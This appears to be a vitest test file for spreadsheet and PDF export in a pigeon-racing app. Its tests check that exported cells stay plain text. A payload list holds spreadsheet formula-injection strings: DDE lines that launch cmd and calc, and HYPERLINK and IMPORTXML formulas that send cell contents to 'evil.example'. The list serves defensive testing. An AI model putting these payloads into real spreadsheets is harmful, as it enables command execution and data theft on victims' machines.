/** Lists as spreadsheets and documents, read back with any text. */
import { readXlsx } from 'hucre/xlsx';
import { renderSVG } from 'uqr';
import { afterAll, describe, expect, it } from 'vitest';
import type { CertificatesPaper } from '#domain/arrivals/certificate.ts';
import { csvOf, decimalCell } from '#domain/csv.ts';
import type { Cell } from '#domain/table.ts';
import { linesOfPdf } from '#testing/pdf-text.ts';
import type { FileFormat } from './paint.ts';
import { createPainter } from './painter.ts';
import { writeSheet } from './sheet.ts';

const table = (rows: readonly (readonly Cell[])[], dir: 'ltr' | 'rtl' = 'ltr') => ({
  title: 'Ulm 2022',
  rows,
  lang: 'en',
  dir,
});
const painter = createPainter({ error: () => {} });
let files = 0;
const made = (format: FileFormat, what: object) =>
  painter.file(`file ${++files}`, { format, json: Buffer.from(JSON.stringify(what)) });
afterAll(() => painter.close());

/** The rows of a file, and the number of its formulas. */
async function read(bytes: Uint8Array) {
  const { sheets } = await readXlsx(bytes, { readStyles: true });
  const [sheet] = sheets;
  const formulas = [...(sheet!.cells ?? [])].filter(
    ([, cell]) => cell.formula !== undefined || cell.type === 'formula',
  );
  return { rows: sheet!.rows, view: sheet!.view, formulas: formulas.length };
}

/** Texts that attack spreadsheet programs (R3). */
const payloads = [
  "=cmd|' /C calc'!A0",
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
  "=DDE('cmd','/C calc','x')",
  '＝1+1',
  '"=1+1"',
  "'=1+1",
];

describe('a list as a spreadsheet with types', () => {
  it.each(payloads)('shows %j as text in any column, and returns it exactly (R3)', async (payload) => {
    const rows = [['Ring', 'Team', 'Fancier'], ...[0, 1, 2].map((column) => ['a', 'b', 'c'].with(column, payload))];
    const { rows: found, formulas } = await read(await writeSheet(table(rows)));
    expect(formulas).toBe(0);
    expect(found).toEqual(rows);
  });

  it('writes a value with decimals as a number, and as a text with all of them in a table of text', async () => {
    const rows: Cell[][] = [
      ['Place', 'Mean'],
      [1, decimalCell('1284.50', 2)],
      [2, decimalCell(null, 2)],
    ];
    const { rows: found } = await read(await writeSheet(table(rows)));
    expect(found).toEqual([
      ['Place', 'Mean'],
      [1, 1284.5],
      [2, null],
    ]);
    expect(csvOf(rows)).toContain('1,1284.50\r\n2,\r\n');
  });

  it('returns texts of all scripts, also those that look like escapes of the format', async () => {
    const rows = [
      ['A'],
      ['_x0041_'],
      ['_x005F_x0041_'],
      ['決勝 😀'],
      ['الحمام'],
      ['นก'],
      [' blanks '],
      ['<b>&amp;</b>'],
    ];
    expect((await read(await writeSheet(table(rows)))).rows).toEqual(rows);
  });

  it('has numbers as numbers, days as days, and the direction of its language', async () => {
    const rows: Cell[][] = [
      ['Date', 'Speed', 'Name'],
      [{ day: '2026-06-06' }, 1303.2573, null],
    ];
    const { rows: found, view } = await read(await writeSheet(table(rows, 'rtl')));
    expect(found[1]).toEqual([new Date('2026-06-06T00:00:00Z'), 1303.2573, null]);
    expect(view).toMatchObject({ rightToLeft: true });
    expect((await read(await writeSheet(table(rows)))).view?.rightToLeft).toBeFalsy();
  });

  it('has the facts of a list above its heads where it says nothing without them', async () => {
    const rows = [['Place'], [1]];
    const facts = ['Ace pigeon', '=1+1'];
    const headed = await writeSheet({ ...table(rows), facts, is_headed: true });
    expect((await read(headed)).rows.filter((row) => row.some((cell) => cell !== null))).toEqual([
      ['Ace pigeon'],
      ['=1+1'],
      ...rows,
    ]);
    expect((await read(headed)).formulas).toBe(0);
    // Control: others begin with their heads.
    expect((await read(await writeSheet({ ...table(rows), facts }))).rows).toEqual(rows);
  });

  it('has amounts as numbers with their currency, in their own column only', async () => {
    const rows: Cell[][] = [
      ['Amount', 'Active'],
      [null, 3],
      [{ cents: 65_050, currency: 'EUR' }, 2],
    ];
    const { sheets } = await readXlsx(await writeSheet(table(rows)), { readStyles: true });
    expect(sheets[0]!.rows[2]).toEqual([650.5, 2]);
    const formatAt = (key: string) => sheets[0]!.cells?.get(key)?.style?.numFmt;
    expect(formatAt('2,0')).toBe('#,##0.00 "EUR"');
    expect(formatAt('2,1')).toBeUndefined();
  });

  it('control: a real formula is detected', async () => {
    const { writeXlsx } = await import('hucre/xlsx');
    const bytes = await writeXlsx({
      sheets: [{ name: 'A', rows: [[2]], cells: new Map([['0,0', { value: 2, formula: '1+1' }]]) }],
    });
    expect((await read(bytes)).formulas).toBe(1);
  });
});

describe('a list as a file made beside the server', { timeout: 60_000 }, () => {
  it('is a spreadsheet and a document, also of many rows and without any', async () => {
    const rows: Cell[][] = [
      ['Ring', 'Team', 'Date', 'Speed'],
      ...Array.from({ length: 200 }, (_, i): Cell[] => [
        `BE 26-${i}`,
        payloads[i % payloads.length]!,
        { day: '2026-06-06' },
        { cents: -i, currency: 'EUR' },
      ]),
    ];
    const xlsx = await made('xlsx', table(rows));
    expect((await read(new Uint8Array(xlsx))).rows).toHaveLength(201);
    const pdf = Buffer.from(await made('pdf', table(rows)));
    expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
    expect(pdf.length).toBeGreaterThan(10_000);
    const confirmation = {
      title: 'Order',
      pages: payloads.slice(0, 2).map((said) => ({
        title: said,
        accent: said === payloads[0] ? '#0b6b46' : null,
        loft: [said],
        customer: [said],
        facts: [[said, said] as const],
        positions: [[said, '1 / 0', said, said]],
        total: [said, said] as const,
        pay: said,
        how: null,
        transfer: {
          facts: [[said, said] as const],
          lead: said,
          code: said === payloads[0] ? null : renderSVG('BCD'),
        },
        history: [],
        code: renderSVG('https://example.org'),
        address: said,
      })),
      lang: 'th',
      dir: 'ltr' as const,
    };
    const paper = Buffer.from(await made('confirmation', confirmation));
    expect(paper.subarray(0, 5).toString()).toBe('%PDF-');
    const certificate = (said: string, dir: 'ltr' | 'rtl'): CertificatesPaper['certificates'][number] => ({
      loft: said,
      loft_country: dir === 'ltr' ? 'PT' : 'ZZ',
      country: dir === 'ltr' ? null : 'BE',
      heading: said,
      lead: said,
      from: said,
      to: said,
      place: { label: said, rank: '6,834', of: said, medal: dir === 'ltr' ? 1 : null },
      name: dir === 'ltr' ? said : null,
      ring: dir === 'ltr' ? { before: 'BE 26-4023', digits: '187', after: said } : null,
      looks: said,
      owner: [said, said],
      facts: [{ name: said, value: '1,276.56', unit: said }],
      official: dir === 'ltr' ? { title: said, day: said } : null,
      greeting: dir === 'ltr' ? said : '',
      signature: dir === 'ltr' ? { name: said, office: said } : { name: '', office: '' },
      check: said,
      fingerprint: '9f2c 41d8',
      code: renderSVG('https://example.org'),
      address: said,
    });
    for (const dir of ['ltr', 'rtl'] as const) {
      const said = payloads[dir === 'ltr' ? 0 : 1]!;
      const certificates = [certificate(said, dir), certificate(said, 'ltr')];
      const paper: CertificatesPaper = {
        title: said,
        brand: said,
        certificates,
        lang: dir === 'ltr' ? 'de' : 'ar',
        dir,
      };
      const pages = Buffer.from(await made('certificates', paper));
      expect(pages.subarray(0, 5).toString()).toBe('%PDF-');
      expect(pages.toString('latin1')).toMatch(/\/Count 2\b/);
    }
    const manifest = {
      title: payloads[0]!,
      facts: [[payloads[0]!, payloads[1]!] as const],
      crates: payloads.map((said) => ({
        title: said,
        lines: [said, said],
        birds: [[said, said] as const],
        code: renderSVG('https://example.org'),
        address: said,
      })),
      lang: 'ar',
      dir: 'rtl' as const,
    };
    expect(
      Buffer.from(await made('manifest', manifest))
        .subarray(0, 5)
        .toString(),
    ).toBe('%PDF-');
    const labels = {
      title: payloads[0]!,
      labels: [1, 28, 77, 200].map((count) => ({
        crate: '1',
        desk: payloads[0]!,
        loft: payloads[1]!,
        flight: payloads[0]!,
        facts: [[payloads[0]!, payloads[1]!] as const],
        birds: Array.from({ length: count }, (_, n) => [String(n + 1), payloads[n % payloads.length]!] as const),
        code: renderSVG('https://example.org'),
        address: payloads[0]!,
      })),
      lang: 'ja',
      dir: 'ltr' as const,
    };
    expect(
      Buffer.from(await made('crate-labels', labels))
        .subarray(0, 5)
        .toString(),
    ).toBe('%PDF-');
    const empty = Buffer.from(await made('pdf', table([['Ring']], 'rtl')));
    expect(empty.subarray(0, 5).toString()).toBe('%PDF-');
  });
});

it('a name without a blank stays within the column of a confirmation', async () => {
  const page = {
    title: 'Order 27-0042',
    accent: null,
    loft: ['Padma Derby'],
    customer: ['Y'.repeat(64)],
    facts: [['Team', 'X'.repeat(128)] as const],
    positions: [['Packages', 'Active / reserve', 'Price', 'Total']],
    total: ['Total', '€1.00'] as const,
    pay: null,
    how: null,
    transfer: null,
    history: [],
    code: renderSVG('https://example.org'),
    address: 'https://example.org',
  };
  const paper = await made('confirmation', { title: page.title, pages: [page], lang: 'en', dir: 'ltr' });
  const lines = (await linesOfPdf(Buffer.from(paper))).flat();
  const lengths = (letter: string) => lines.flatMap((line) => line.split(letter).length - 1 || []);
  expect(lengths('Y').length).toBeGreaterThan(1);
  expect(lengths('X').length).toBeGreaterThan(1);
  expect(Math.max(...lengths('X'))).toBeLessThan(100);
});
